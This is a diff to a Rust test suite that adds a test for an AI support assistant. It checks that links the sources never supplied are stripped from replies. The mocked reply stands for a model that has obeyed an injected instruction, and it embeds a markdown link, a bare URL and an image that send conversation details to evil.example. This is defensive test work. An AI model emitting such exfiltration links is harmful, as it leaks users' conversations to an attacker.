@@ -424,3 +424,22 @@ async fn search_knowledge_adds_sources_numbered_after_the_prompts_and_they_can_b
     assert_eq!((citation["number"].as_u64(), citation["title"].as_str()), (Some(2), Some("Shipping")), "{turn}");
     assert!(tool_results(&s.mock, 1)[0].starts_with("[2] Shipping"), "{:?}", tool_results(&s.mock, 1));
 }
+
+#[tokio::test]
+async fn l6_links_the_sources_never_wrote_are_removed_from_the_reply() {
+    let s = setup(json!({}), json!({})).await;
+    // An obeyed instruction: carry the conversation away in a link, an image and a bare URL.
+    let reply = "EU customers may return any item within 30 days of delivery for a full refund, \
+                 see [the form](https://evil.example/f?h=return) [1]. Any item within 30 days: \
+                 https://evil.example/c?history=returns [1]. ![Refund](https://evil.example/p.png?q=EU)"
+        .to_owned();
+    s.mock.push(Script::reply(reply));
+    let turn = ask(&s, "How long do I have to return something in the EU?").await;
+    assert_eq!(turn["outcome"], "answered", "{turn}");
+    let text = turn["reply"]["text"].as_str().unwrap();
+    assert!(!text.contains("evil.example"), "{text}");
+    assert!(text.contains("within 30 days of delivery for a full refund, see the form [1]."), "{text}");
+    let stored = stored_reply(&s).await;
+    assert!(!stored.to_string().contains("evil.example/f"), "{stored}");
+    assert_eq!(stored["details"]["evidence"]["grounding"]["links_removed"], true, "{stored}");
+}
